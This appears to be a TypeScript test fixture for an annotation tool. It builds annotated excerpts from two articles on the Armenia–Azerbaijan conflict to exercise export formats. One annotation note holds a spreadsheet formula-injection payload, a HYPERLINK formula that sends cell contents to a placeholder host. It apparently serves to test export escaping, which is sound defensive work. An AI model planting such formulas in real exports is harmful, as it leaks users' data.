// TEST SUPPORT: a small library built from two corpus articles, shaped like what the app holds —
// UUID annotation ids, `annotator-<uuid>` annotators next to one older plain id, claims, actors
// and dates, notes with quotes, line breaks and a leading `=`, a quote starting with `@`. Every
// export format's tests and the W3C suite run over it. Pure: the caller reads the corpus files.

import type { Annotation, Annotator, SourceDocument } from '../model/annotation.ts';
import { asAnnotatorId } from '../model/ids.ts';
import { BUILT_IN_LABELS } from '../model/labels.ts';
import type { DatasetModel } from './dataset/index.ts';
import { annotateQuote, makeDocument } from './dataset/test-support.ts';

/** The corpus files the fixture annotates (in ../shared/corpus). */
export const FIXTURE_CORPUS_FILES = ['001_a0067eea4bbd0937.txt', '002_2d75c3c5078d4155.txt'];

export const ANA: Annotator = {
  id: asAnnotatorId('annotator-5b0e1a8e-7f3c-4d2a-9c61-0d4f2b7a8e11'),
  name: 'Ana Petrosyan',
};
export const BEN: Annotator = {
  id: asAnnotatorId('annotator-c2d9f7e4-1a6b-4e8f-b3d5-6a7c8e9f0b12'),
  name: 'Ben Aliyev',
};
/** An annotator id from before ids were UUIDs. */
export const CARLA: Annotator = { id: asAnnotatorId('carla'), name: 'Carla "CM" Martín' };
/** Has no annotations: exports that list annotators must still carry her. */
export const DANA: Annotator = { id: asAnnotatorId('dana'), name: 'Dana' };

interface Span {
  quote: string;
  label: 'claim' | 'actor' | 'date';
  annotator: Annotator;
  id: string;
  note?: string;
}

const POMPEO: Span[] = [
  {
    quote: 'Mike Pompeo',
    label: 'actor',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e01',
  },
  {
    quote: 'this Friday',
    label: 'date',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e02',
  },
  {
    quote: 'Armenia and Azerbaijan',
    label: 'actor',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e03',
  },
  {
    quote:
      'The region is experiencing the most hostile struggle in more than a quarter of a century.',
    label: 'claim',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e04',
    note: 'Compare with the April 2016 escalation.',
  },
  { quote: '@ZMnatsakanyan', label: 'actor', annotator: CARLA, id: 'legacy-7' },
];

const ONE_YEAR_AFTER: Span[] = [
  {
    quote: 'September 2022',
    label: 'date',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e06',
  },
  {
    quote: 'Azerbaijan swiftly seized back Nagorno-Karabakh',
    label: 'claim',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e07',
    note: '=HYPERLINK("https://example.com/?leak="&A1, "source")',
  },
  {
    quote: 'Antony Blinken',
    label: 'actor',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e08',
  },
  {
    quote: 'Hasmik Tolmajyan',
    label: 'actor',
    annotator: CARLA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e09',
  },
  {
    quote: '“Armenia has shown multiple times its sincere hope and determination',
    label: 'claim',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e10',
    note: 'Official line, "sincere" is doing work here;\nsee the ambassador’s earlier remarks.',
  },
];

/** The fixture library: two documents, ten annotations by three annotators, four annotators. */
export function buildFixtureModel(readCorpus: (fileName: string) => string): DatasetModel {
  const [pompeoFile, oneYearFile] = FIXTURE_CORPUS_FILES as [string, string];
  const pompeo = makeDocument('Pompeo steps into the conflict', readCorpus(pompeoFile));
  const oneYear = makeDocument('One year after the offensive', readCorpus(oneYearFile));
  const annotations = [
    ...annotate(pompeo, POMPEO, 0),
    ...annotate(oneYear, ONE_YEAR_AFTER, POMPEO.length),
  ];
  return {
    documents: [pompeo, oneYear],
    annotations,
    annotators: [ANA, BEN, CARLA, DANA],
    labels: [...BUILT_IN_LABELS],
  };
}

function annotate(document: SourceDocument, spans: Span[], first: number): Annotation[] {
  return spans.map((span, i) => {
    const created = new Date(Date.UTC(2024, 4, 1, 9, 30 + first + i));
    return {
      ...annotateQuote(document, span.quote, {
        id: span.id,
        label: span.label,
        annotator: span.annotator.id,
        note: span.note ?? '',
      }),
      createdAt: created.toISOString(),
      // Every other annotation was edited a day later.
      updatedAt: new Date(created.getTime() + ((first + i) % 2) * 86_400_000).toISOString(),
    };
  });
}
